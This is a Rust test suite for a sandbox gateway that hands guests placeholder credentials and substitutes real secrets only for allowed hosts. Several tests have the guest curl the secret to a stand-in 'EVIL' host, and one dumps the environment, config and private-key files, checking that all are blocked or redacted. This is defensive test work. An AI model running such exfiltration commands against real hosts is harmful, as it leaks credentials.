//! Credentials that the guest uses and never has.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::{Value, json};
use sluicegate_host::NetworkConfig;

use super::{EVIL, GOOD, Scratch, Site, VALUE, command, config, events, has, run};
use crate::guest::{ConfigFile, Guest, sluicegate};
use crate::needs;
use crate::process::{self, Process};

const PLACEHOLDER: &str = "$MSB_API_KEY";

/// `curl` of `site` under `name`, and more words, as a script.
fn curl(site: &Site, name: &str, words: &str) -> String {
    format!("curl -sS -m 20 {words} -w '\\n%{{http_code}}' {}", site.url(name, "/p"))
}

#[test]
fn its_server_has_the_value_and_the_guest_the_placeholder() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    let json = r#"-H 'Content-Type: application/json' -d "{\"k\": \"$API_KEY\"}""#;
    for version in ["--http1.1", "--http2"] {
        for (what, words, sent) in [
            ("a field", r#"-H "Authorization: Bearer $API_KEY""#, "Bearer VALUE"),
            ("Basic", r#"-u "me:$API_KEY""#, "Basic bWU6c2stbGl2ZS0wMTIzNDU2Nzg5YWJjZGVm"),
            ("the query", r#"-G --data-urlencode "k=$API_KEY""#, "k=VALUE"),
            ("a form", r#"--data-urlencode "k=$API_KEY""#, "k=VALUE"),
            ("JSON", json, r#"{"k": "VALUE"}"#),
            ("chunks", r#"-H 'Transfer-Encoding: chunked' -d "a $API_KEY b""#, "a VALUE b"),
        ] {
            let site = Site::new(&["h2", "http/1.1"]);
            // An HPACK-encoded head can't be searched: the server says what it heard.
            let words = format!("{version} {words}");
            let finished = run(&config(&site, json!({})), &curl(&site, GOOD, &words));
            assert!(finished.output.ends_with("\n200"), "{what}: {finished:?}");
            assert!(!finished.output.contains(VALUE), "{what}: redacted: {finished:?}");
            assert!(events(&finished).is_empty(), "{finished:?}");
            if version == "--http1.1" {
                let sent = sent.replace("VALUE", VALUE);
                assert!(has(&site.heard(), sent.as_bytes()), "{what}: {finished:?}");
                assert!(!has(&site.heard(), b"MSB_API_KEY"), "{what}: no placeholder");
            } else {
                let shown = run(
                    &config(&site, json!({"secrets": {"redact_responses": false}})),
                    &curl(&site, GOOD, &words),
                );
                let shown = shown.output.replace("\\\"", "\"");
                assert!(shown.contains(&sent.replace("VALUE", VALUE)), "{what}: {shown}");
            }
        }
    }
}

#[test]
fn whoever_may_not_have_it_hears_nothing_of_the_request() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    for version in ["--http1.1", "--http2"] {
        for (place, words) in [
            ("header", r#"-H "Authorization: Bearer $API_KEY""#),
            ("basic credentials", r#"-u "me:$API_KEY""#),
            ("query", r#"-G --data-urlencode "k=$API_KEY""#),
            ("body", r#"--data-urlencode "k=$API_KEY""#),
            ("body", r#"-H 'Content-Type: text/plain' --data-binary "a$API_KEY""#),
        ] {
            let site = Site::new(&["h2", "http/1.1"]);
            let words = format!("{version} {words}");
            let finished = run(&config(&site, json!({})), &curl(&site, EVIL, &words));
            assert!(finished.output.ends_with("\n403"), "{place}: {finished:?}");
            let body = finished.output.rsplit_once('\n').unwrap().0.trim();
            let body: serde_json::Value = serde_json::from_str(body).unwrap();
            assert_eq!(
                (&body["code"], &body["domain"]),
                (&json!("secret_policy_denied"), &json!(EVIL))
            );
            let events = events(&finished);
            assert_eq!((events.len(), &events[0]["secret"]), (1, &json!("API_KEY")));
            assert_eq!(events[0]["place"], place, "{finished:?}");
            let heard = site.heard();
            assert!(!has(&heard, b"/p") && !has(&heard, b"MSB_API"), "{place}: nothing of it");
        }
    }
}

#[test]
fn a_long_body_is_cut_before_the_placeholder() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    for version in ["--http1.1", "--http2"] {
        let site = Site::new(&["h2", "http/1.1"]);
        let script = format!(
            "(head -c 2000000 /dev/zero; printf '%s' \"$API_KEY\"; head -c 9000 /dev/zero) | \
             curl -sS -m 20 {version} -T - -w '\\n%{{http_code}}' {}",
            site.url(EVIL, "/p")
        );
        let finished = run(&config(&site, json!({})), &script);
        assert!(!has(&site.heard(), b"MSB_API_KEY"), "{finished:?}");
        assert!(finished.output.ends_with("403") || finished.code != 0, "{finished:?}");
        assert_eq!(events(&finished).len(), 1, "{finished:?}");
    }
}

#[test]
fn values_are_shown_by_no_command() {
    if !needs::are_met(&[]) {
        return;
    }
    let site = Site::new(&["http/1.1"]);
    let file = ConfigFile::new(&config(&site, json!({})));
    for arguments in [&["check"][..], &["env", "--slot", "0", "--config"]] {
        let mut command = sluicegate();
        let finished = process::run(command.args(arguments).arg(file.path()));
        assert_eq!(finished.code, 0, "{finished:?}");
        let all = finished.output + &finished.errors;
        assert!(!all.contains(VALUE), "{all}");
        if arguments[0] == "env" {
            assert!(all.contains("\nAPI_KEY=$MSB_API_KEY\n"), "{all}");
        }
    }
}

#[test]
fn a_value_may_be_in_the_gateways_environment() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    let site = Site::new(&["http/1.1"]);
    let secret = json!({"env_var": "TOKEN", "source": {"kind": "env", "var": "HOST_TOKEN_42"},
        "allowed_hosts": [GOOD]});
    let file = ConfigFile::new(&config(&site, json!({"secrets": {"secrets": [secret]}})));
    let script = curl(&site, GOOD, "-H \"X: $TOKEN\"");
    let mut with = command(&file, &script);
    let finished = process::run(with.env("HOST_TOKEN_42", "from-the-environment"));
    assert!(has(&site.heard(), b"from-the-environment"), "{finished:?}");
    let without = process::run(&mut command(&file, &script));
    assert_eq!(without.code, 125);
    assert!(without.errors.contains("HOST_TOKEN_42"), "{without:?}");
}

#[test]
fn the_command_finds_no_value_in_what_it_shares_with_the_gateway() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    let site = Site::new(&["http/1.1"]);
    let secret = |env_var: &str, more: Value| {
        let mut secret = json!({"env_var": env_var, "allowed_hosts": [GOOD]});
        secret.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        secret
    };
    let scratch = Scratch::new("withheld");
    let [control, key, certificate] = ["control", "key", "certificate"].map(|n| scratch.0.join(n));
    let authority = json!({"cert_path": certificate, "key_path": key});
    let more = json!({"tls": {"intercept_ca": authority}, "secrets": {"secrets": [
        secret("TOKEN", json!({"source": {"kind": "env", "var": "HOST_TOKEN_43"}})),
        // The guest's variable is called as the gateway's is.
        secret("SAME_43", json!({"source": {"kind": "env", "var": "SAME_43"}})),
        secret("WRITTEN", json!({"value": "from-the-file"})),
    ]}});
    let file = ConfigFile::new(&config(&site, more));
    let script = format!(
        "env; cat {file} {key}; ls -l {control} | cut -c1; \
         curl -sS --unix-socket {control} http://a/v1/config; echo $?",
        file = file.path().display(),
        key = key.display(),
        control = control.display()
    );
    let plain = command(&file, &script);
    // Before the command: `run` takes the rest.
    let mut words: Vec<_> = plain.get_args().map(std::ffi::OsStr::to_owned).collect();
    let mut with = sluicegate();
    with.args(&words[..1]).arg("--control").arg(&control).args(&words[1..]);
    with.env("HOST_TOKEN_43", "from-the-environment").env("SAME_43", "from-there-too");
    let finished = process::run(&mut with);
    // By another name it is the same file, and at that name the command has another.
    let named = words.iter().position(|word| word == file.path()).unwrap();
    words[named] = "/dev/stdin".into();
    let mut renamed = sluicegate();
    renamed.args(&words).stdin(std::fs::File::open(file.path()).unwrap());
    renamed.env("HOST_TOKEN_43", "from-the-environment").env("SAME_43", "from-there-too");
    let renamed = Process::start(&mut renamed).finish();
    assert!(renamed.output.contains("TOKEN=$MSB_TOKEN\n"), "{renamed:?}");
    let all = format!("{}{}{}", finished.output, finished.errors, renamed.output);
    assert!(all.contains("TOKEN=$MSB_TOKEN\n") && all.contains("SAME_43=$MSB_SAME_43\n"), "{all}");
    for value in
        ["from-the-environment", "from-there-too", "from-the-file", "HOST_TOKEN_43", "PRIVATE KEY"]
    {
        assert!(!all.contains(value), "{value}: {all}");
    }
    assert!(std::fs::read_to_string(&key).unwrap().contains("PRIVATE KEY"), "it is there outside");
    assert!(finished.output.ends_with("\nc\n7\n"), "no socket, but a device: {all}");
}

/// A client that asks again on the same connection, whenever it is told to.
const AGAIN: &str = r#"
import http.client, os, ssl, sys
context = ssl.create_default_context(cafile=sys.argv[3])
connection = http.client.HTTPSConnection(sys.argv[4], int(sys.argv[2]), context=context, timeout=20)
connection.connect = lambda: None
import socket
raw = socket.create_connection((sys.argv[4], int(sys.argv[2])), timeout=20)
connection.sock = context.wrap_socket(raw, server_hostname=sys.argv[1])
for line in sys.stdin:
    connection.request("GET", "/", headers={"Host": sys.argv[1], "X-Key": "$MSB_API_KEY"})
    response = connection.getresponse()
    response.read()
    print(response.status, flush=True)
"#;

#[test]
fn a_change_counts_for_the_next_request_of_an_open_connection() {
    if !needs::are_met(&["python3"]) {
        return;
    }
    let site = Site::new(&["http/1.1"]);
    let json = config(&site, json!({"secrets": {"violation_action": "block-and-terminate"}}));
    let guest = Guest::embedded_with(NetworkConfig::from_json(&json.to_string()).unwrap());
    let handle = guest.network(|network| network.secrets_handle());
    let terminated = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&terminated);
    guest.network(|network| {
        network.termination_handle().set_hook(Arc::new(move || {
            count.fetch_add(1, Ordering::Relaxed);
        }));
    });
    let authority = ConfigFile::new(&json!(null));
    let pem = guest.network(|network| network.ca_cert_pem()).unwrap();
    std::fs::write(authority.path(), pem).unwrap();
    let gateway = guest.gateway(crate::servers::Family::V4).to_string();
    let client = || {
        let mut python = guest.command("python3");
        python
            .args(["-c", AGAIN, GOOD, &site.port.to_string()])
            .arg(authority.path())
            .arg(&gateway);
        let mut process = Process::start(python.stdin(std::process::Stdio::piped()));
        let input = process.take_input();
        (process, input)
    };
    let (mut process, mut input) = client();
    let mut ask = |process: &mut Process, expected: &str| {
        std::io::Write::write_all(&mut input, b"\n").unwrap();
        process.wait_for(expected);
    };
    ask(&mut process, "200\n");
    assert!(has(&site.heard(), VALUE.as_bytes()));
    handle.rotate("API_KEY", "rotated-value-42".to_owned()).unwrap();
    ask(&mut process, "200\n200\n");
    assert!(has(&site.heard(), b"rotated-value-42"), "the new value, on the same connection");
    assert_eq!(site.handshakes(), 1);
    assert_eq!(terminated.load(Ordering::Relaxed), 0);
    handle.set_allowed_hosts("API_KEY", vec!["elsewhere.test".parse().unwrap()]).unwrap();
    ask(&mut process, "403\n");
    assert_eq!(terminated.load(Ordering::Relaxed), 1, "the guest is to end");
    let (mut process, mut input) = client();
    std::io::Write::write_all(&mut input, b"\n").unwrap();
    process.wait_for("403\n");
    assert_eq!(terminated.load(Ordering::Relaxed), 1, "and was told so");
    assert!(!has(&site.heard(), PLACEHOLDER.as_bytes()));
}
